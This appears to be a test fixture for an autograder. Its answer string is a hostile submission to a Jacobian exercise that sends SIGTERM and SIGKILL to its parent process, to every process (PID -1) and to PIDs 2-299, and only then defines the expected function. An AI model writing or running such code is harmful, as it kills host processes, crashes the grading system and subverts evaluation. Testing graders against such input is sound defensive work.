"""Sends signals to its parent, its group and everyone."""

EXERCISE = "ps1-jacobian"
OUTCOME = "full"
ANSWER = """
import os
import signal

for number in (signal.SIGTERM, signal.SIGKILL):
    for process in (os.getppid(), -1, *range(2, 300)):
        try:
            if process > 1 or process == -1:
                os.kill(process, number)
        except OSError:
            pass


def jacobian(x):
    return np.array([[x[1] ** 2, 2 * x[0] * x[1]], [x[1], x[0]]])
"""
